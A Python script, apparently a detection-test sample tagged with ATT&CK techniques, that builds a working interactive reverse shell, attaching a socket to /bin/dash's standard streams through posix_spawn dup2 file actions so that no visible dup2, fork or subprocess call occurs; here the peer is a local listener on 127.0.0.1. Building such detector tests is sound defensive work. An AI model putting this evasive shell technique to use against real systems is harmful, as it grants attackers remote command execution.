# technique: T1059.004 T1095 T1106
"""Reverse shell with os.posix_spawn file actions doing the dup2 (T1059.004, T1095, T1106).

The socket is wired onto the child's standard streams by
POSIX_SPAWN_DUP2 file actions inside posix_spawn: no Python-visible dup2,
no fork, no subprocess. The program is /bin/dash.

A good detector raises a critical alert: a shell is spawned whose standard
streams are a connected socket (the file actions name the socket's
descriptor).
"""
import os
import socket
import threading

def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
    """Our own peer on 127.0.0.1: accepts one connection, types commands, reads until the shell ends."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(4)
    transcript = []

    def operator():
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        conn.settimeout(3)
        conn.sendall(commands)
        data = b""
        try:
            while True:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        transcript.append(data)
        conn.close()

    thread = threading.Thread(target=operator, daemon=True)
    thread.start()
    return listener.getsockname()[1], thread, transcript

port, operator, transcript = start_operator()
sock = socket.create_connection(("127.0.0.1", port), timeout=5)
fd = sock.fileno()
actions = [(os.POSIX_SPAWN_DUP2, fd, 0), (os.POSIX_SPAWN_DUP2, fd, 1), (os.POSIX_SPAWN_DUP2, fd, 2)]
pid = os.posix_spawn("/bin/dash", ["dash", "-i"], {"PATH": "/usr/bin:/bin"}, file_actions=actions)
sock.close()
os.waitpid(pid, 0)
operator.join(3)
print("operator transcript:", transcript)
